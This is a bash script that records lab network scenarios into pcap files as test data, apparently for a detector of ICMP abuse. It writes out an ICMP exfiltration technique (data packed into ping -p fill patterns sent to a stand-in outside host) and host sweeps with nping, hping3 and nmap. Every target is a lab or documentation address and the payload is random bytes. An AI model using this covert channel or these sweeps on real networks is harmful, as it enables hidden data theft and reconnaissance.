#!/usr/bin/env bash
# record_extra.sh — scenarios recorded for tests/data/recorded beyond the shared recipes
# (../shared/corpus/record/record.sh), in the same lab: run ../shared/corpus/record/lab.sh up
# first, as root. Every address belongs to the lab; every command is bounded in time.
#
#   record_extra.sh SCENARIO OUT.pcap
#
#   exfil_ping_pattern  a file sent 16 bytes a time in ping -p fill patterns (420 pings)
#   exfil_ping6_pattern the same over ICMPv6 to a server inside (60 pings)
#   sweep_nping         nping --icmp over 10.78.0.32-63
#   sweep_hping_ts      hping3 timestamp requests, one process per target, 10.78.0.32-63
#   sweep_nmap_data     nmap -sn -PE with 40 random bytes in every probe
#   ping_big_external   ping -s 1400, 40 times, to an outside host
#   fping_fast_two      fping -c 200 -p 20 to two servers
set -uo pipefail
sc=$1 out=$2
x() { ip netns exec "$@"; }
ip netns exec ih_sw tcpdump -q -U -n -i br0 -s 0 -w "$out" 2>/dev/null &
cap=$!
sleep 1
case $sc in
  exfil_ping_pattern)
    head -c 8000 /dev/urandom | xxd -p -c 16 | head -n 420 > /tmp/ih_lines
    while read -r l; do x ih_atk timeout 2 ping -c 1 -W 1 -p "$l" 203.0.113.7 >/dev/null 2>&1; done < /tmp/ih_lines ;;
  exfil_ping6_pattern)
    head -c 2000 /dev/urandom | xxd -p -c 16 | head -n 60 > /tmp/ih_lines6
    while read -r l; do x ih_atk timeout 2 ping -6 -c 1 -W 1 -p "$l" fd78::28 >/dev/null 2>&1; done < /tmp/ih_lines6 ;;
  sweep_nping)
    x ih_atk timeout 60 nping --icmp -c 1 --rate 50 -q 10.78.0.32-63 >/dev/null 2>&1 ;;
  sweep_hping_ts)
    for i in $(seq 32 63); do x ih_atk timeout 2 hping3 -1 -C 13 -q -c 1 10.78.0.$i >/dev/null 2>&1; done ;;
  sweep_nmap_data)
    x ih_atk timeout 60 nmap -n -sn -PE --data-length 40 -T4 10.78.0.32/27 >/dev/null 2>&1 ;;
  ping_big_external)
    x ih_ws2 timeout 30 ping -q -c 40 -i 0.2 -s 1400 198.51.100.23 >/dev/null 2>&1 ;;
  fping_fast_two)
    x ih_ws2 timeout 30 fping -q -c 200 -p 20 10.78.0.40 10.78.0.50 >/dev/null 2>&1 ;;
  *) echo "unknown scenario $sc" >&2; kill "$cap"; exit 2 ;;
esac
sleep 2
kill -TERM "$cap"; wait "$cap" 2>/dev/null
for n in ih_atk ih_ws2 ih_mon ih_ext; do ip netns pids "$n" | xargs -r kill 2>/dev/null; done
